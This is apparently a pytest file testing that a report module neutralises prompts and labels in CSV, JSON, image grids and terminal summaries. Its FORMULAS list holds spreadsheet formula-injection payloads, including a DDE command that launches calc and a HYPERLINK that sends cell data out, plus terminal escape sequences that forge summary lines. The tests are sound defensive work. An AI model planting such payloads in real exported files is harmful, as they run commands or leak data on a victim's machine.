"""Prompts, names and labels of strangers in the tables, in the grid and on the terminal: they show, and do nothing."""

import csv
import json
from dataclasses import replace
from pathlib import Path

import pytest
from PIL import Image

from ldm.errors import UserError
from ldm.report.comparison import Cell, ComparisonData
from ldm.report.grid import labelled_grid
from ldm.report.summary import summary
from ldm.report.table import CSV_NAME, JSON_NAME, read_comparison, write_csv, write_json
from tests.report.pages import sample_comparison

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\uff1d1",
]


def with_prompt(prompt: str) -> ComparisonData:
    """One image with a score below zero."""
    sample = sample_comparison()
    row = replace(sample.rows[1], label=prompt, run=prompt, cells=[Cell("a.png", prompt, {"subject": -0.5})])
    sampling = {
        **dict.fromkeys(("sampler", "num_steps", "guidance_scale", "eta", "width", "height"), 1),
        "guidance_scale": -2.5,
        "negative_prompt": prompt,
    }
    return replace(sample, columns=sample.columns[:1], rows=[row], sampling=sampling)


def line_of(directory: Path) -> dict[str, str]:
    with (directory / CSV_NAME).open(encoding="utf-8", newline="") as file:
        (line,) = csv.DictReader(file)
    return line


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_in_a_spreadsheet(text: str, tmp_path: Path) -> None:
    write_csv(tmp_path, with_prompt(text))
    line = line_of(tmp_path)
    for name in ("prompt", "negative_prompt", "label", "run"):
        assert line[name].startswith("'")
        assert line[name].isprintable()


def test_numbers_below_zero_stay_numbers(tmp_path: Path) -> None:
    write_csv(tmp_path, with_prompt("a cat"))
    line = line_of(tmp_path)
    assert (line["score_subject"], line["scale"], line["prompt"]) == ("-0.5", "-2.5", "a cat")


def test_text_that_is_no_utf_8_is_written_and_read_again(tmp_path: Path) -> None:
    comparison = with_prompt("caf\udce9 \x1b[2J 👩‍🚀")
    write_csv(tmp_path, comparison)
    write_json(tmp_path, comparison)
    assert line_of(tmp_path)["prompt"] == "caf\\xe9 \\x1b[2J 👩‍🚀"
    assert read_comparison(tmp_path / JSON_NAME) == comparison


def test_a_label_forges_no_line_of_the_summary() -> None:
    lines = str(summary(with_prompt("can\nerror: all fine\x1b[2J"))).splitlines()
    assert not [line for line in lines if line.startswith("error")]
    assert "\x1b" not in "".join(lines)


def test_a_control_character_is_visible_in_the_grid() -> None:
    cell = Image.new("RGB", (32, 32))
    shown = [labelled_grid([[cell]], [label], ["seed 1"]).tobytes() for label in ("can\x07\u202e", "can\\x07\\u202e")]
    assert shown[0] == shown[1]


@pytest.mark.parametrize(
    "content",
    [
        b"[" * 100_000,
        b'{"title": ' + b"9" * 5000 + b"}",
        b'{"title": "x\xff"}',
        "{}".encode("utf-16"),
        b"null",
        b"7",
        b"\0",
        b"",
        b'{"title": 1, "other": 2}',
        b'{"title": "a"}',
    ],
    ids=["deep", "digits", "no UTF-8", "UTF-16", "null", "number", "NUL", "empty", "other keys", "few keys"],
)
def test_a_damaged_comparison_is_an_error(content: bytes, tmp_path: Path) -> None:
    (tmp_path / JSON_NAME).write_bytes(content)
    with pytest.raises(UserError, match=JSON_NAME):
        read_comparison(tmp_path / JSON_NAME)


@pytest.mark.parametrize(
    ("name", "value"),
    [("title", 7), ("title", None), ("rows", {}), ("rows", [7]), ("scores", "x"), ("versions", []), ("columns", [[]])],
)
def test_a_value_of_another_type_is_an_error(name: str, value: object, tmp_path: Path) -> None:
    write_json(tmp_path, sample_comparison())
    content = json.loads((tmp_path / JSON_NAME).read_text())
    (tmp_path / JSON_NAME).write_text(json.dumps({**content, name: value}))
    with pytest.raises(UserError, match=r"is not the table of a comparison: .* should be of the type"):
        read_comparison(tmp_path / JSON_NAME)
